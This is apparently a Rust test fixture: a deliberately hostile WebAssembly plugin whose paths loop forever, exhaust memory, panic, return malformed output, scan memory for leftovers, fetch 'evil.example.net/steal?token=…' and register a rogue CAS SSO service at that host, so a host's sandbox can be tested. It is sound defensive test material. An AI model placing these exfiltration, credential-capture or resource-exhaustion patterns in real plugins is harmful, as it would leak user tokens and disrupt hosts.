//! A hostile plugin: each path misbehaves in one way (an infinite loop, a memory bomb, a panic,
//! an oversized or malformed view, a host it was not granted, caps passed, an upload left
//! unfinished, memory left for the next call to read), and `/ok` answers normally, so the suite can check that the host stops each one
//! and keeps serving. Its widget loops, its event handler panics and its export is not JSON.

wit_bindgen::generate!({
    path: "../../../plugin-sdk/wit",
    world: "plugin",
});

use exports::preau::plugin::events::{self, Event};
use exports::preau::plugin::handler::{self, Failure, Request, Response};
use exports::preau::plugin::user_data::{self, SubjectRequest};
use exports::preau::plugin::widgets::{self, WidgetRequest};
use preau::plugin::log::{Level, log};
use preau::plugin::{files, http, notifications, sso};

struct Hostile;

/// `s` as a JSON string.
fn json(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A view titled with what happened.
fn outcome(what: String) -> Result<Response, Failure> {
    Ok(Response::View(format!(
        r#"{{"schema":"view/1.0","title":{},"body":[]}}"#,
        json(&what)
    )))
}

fn fetch(method: &str, url: &str, body: Vec<u8>) -> String {
    match http::fetch(&http::Request {
        method: method.into(),
        url: url.into(),
        headers: vec![("accept".into(), "application/json".into())],
        body,
    }) {
        Ok(r) => format!("{} {}", r.status, String::from_utf8_lossy(&r.body)),
        Err(e) => format!("{e:?}"),
    }
}

/// Sixteen bytes no data segment holds: built at run time, never written as a literal.
#[repr(align(16))]
struct Marker([u8; 16]);

fn marker() -> Marker {
    let mut bytes = [0u8; 16];
    for (i, b) in bytes.iter_mut().enumerate() {
        *b = (i as u8).wrapping_mul(37) ^ 0x5a;
    }
    Marker(bytes)
}

/// "{before} {after}": how many copies of the marker an earlier call left in this instance's
/// linear memory (a fresh or well reset memory has none), then how many there are once this
/// call left its own: one on the heap, one in the shadow stack, and 2 MiB of them in memory
/// grown for the purpose.
fn memory_left() -> String {
    let before = markers_in_memory();
    std::hint::black_box(Box::leak(Box::new(marker())));
    let mut on_stack = marker();
    std::hint::black_box(&mut on_stack);
    let grown: Vec<Marker> = (0..(2 << 20) / 16).map(|_| marker()).collect();
    std::hint::black_box(Vec::leak(grown));
    // The same scan now finds what this call left: it would see an earlier call's too.
    format!("{before} {}", markers_in_memory())
}

/// Copies of the marker in linear memory, but the scan's own.
fn markers_in_memory() -> usize {
    let mine = marker();
    let own = std::ptr::addr_of!(mine) as usize;
    let end = core::arch::wasm32::memory_size(0) * 65536;
    let mut found = 0;
    for addr in (16..end - 16).step_by(16) {
        if addr == own {
            continue;
        }
        // SAFETY: every address below `memory.size` is readable linear memory in wasm.
        let bytes = unsafe { std::ptr::read_volatile(addr as *const [u8; 16]) };
        if bytes == mine.0 {
            found += 1;
        }
    }
    found
}

impl handler::Guest for Hostile {
    fn handle(req: Request) -> Result<Response, Failure> {
        match req.path.as_str() {
            "/ok" => {
                log(Level::Info, &format!("ok for {}", req.request_id));
                outcome("Bonjour".into())
            }
            "/loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "/bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![7u8; 1 << 20]));
                }
            }
            "/panic" => panic!("plugin secret 7c1e-do-not-leak"),
            "/hold-32" => {
                let held = std::hint::black_box(vec![1u8; 32 << 20]);
                outcome(format!("{} Mio", held.len() >> 20))
            }
            "/memory-left" => outcome(memory_left()),
            "/huge" => Ok(Response::View(format!(
                r#"{{"schema":"view/1.0","title":"{}"}}"#,
                "x".repeat(2 << 20)
            ))),
            "/malformed" => Ok(Response::View("{\"schema\": \"view/1.0\", oops".to_owned())),
            "/unknown-schema" => Ok(Response::View(r#"{"schema":"view/9.0"}"#.to_owned())),
            "/fetch-denied" => outcome(fetch(
                "GET",
                "https://evil.example.net/steal?token=secret-7c1e",
                vec![],
            )),
            "/fetch-granted" => outcome(fetch(
                "GET",
                "https://api.example.org/manuels?uai=0750652C",
                vec![],
            )),
            "/fetch-huge-response" => outcome(fetch("GET", "https://api.example.org/gros", vec![])),
            "/fetch-many-headers" => {
                outcome(fetch("GET", "https://api.example.org/entetes", vec![]))
            }
            "/fetch-slow" => outcome(fetch("GET", "https://api.example.org/lent", vec![])),
            "/fetch-big-body" => outcome(fetch(
                "POST",
                "https://api.example.org/depot",
                vec![b'x'; (1 << 20) + 1],
            )),
            "/notify-many" => {
                let result = notifications::notify(&notifications::Notification {
                    recipients: (0..1001).map(|n| format!("u{n}")).collect(),
                    title: "Spam".into(),
                    body: "Bonjour à tous".into(),
                    link: None,
                });
                outcome(format!("{result:?}"))
            }
            "/upload-abandoned" => {
                let upload = files::create("brouillon.txt", "text/plain", &[]);
                match upload {
                    Ok(upload) => {
                        let written = upload.write(b"moitie d'un fichier");
                        drop(upload);
                        outcome(format!("abandoned after {written:?}"))
                    }
                    Err(e) => outcome(format!("{e:?}")),
                }
            }
            "/upload-finished" => {
                let result = files::create("fini.txt", "text/plain", &[]).and_then(|upload| {
                    upload.write(b"un fichier entier")?;
                    files::Upload::finish(upload)
                });
                outcome(format!("{:?}", result.map(|meta| meta.path)))
            }
            "/sso" => {
                let result = sso::register_cas_service(&sso::CasService {
                    id: "espion".into(),
                    name: "Espion".into(),
                    service_prefix: "https://evil.example.net/".into(),
                    attributes: vec!["uid".into()],
                });
                outcome(format!("{result:?}"))
            }
            _ => Err(Failure {
                status: 404,
                message: "introuvable / not found".to_owned(),
            }),
        }
    }
}

impl widgets::Guest for Hostile {
    fn render(_req: WidgetRequest) -> Result<String, Failure> {
        let mut n: u64 = 0;
        loop {
            n = std::hint::black_box(n.wrapping_add(1));
        }
    }
}

impl events::Guest for Hostile {
    fn handle(_ev: Event) -> Result<(), Failure> {
        panic!("plugin secret 7c1e-do-not-leak")
    }
}

impl user_data::Guest for Hostile {
    fn export(_req: SubjectRequest) -> Result<String, Failure> {
        Ok("pas du JSON".into())
    }

    fn delete(_req: SubjectRequest) -> Result<(), Failure> {
        Ok(())
    }
}

export!(Hostile);
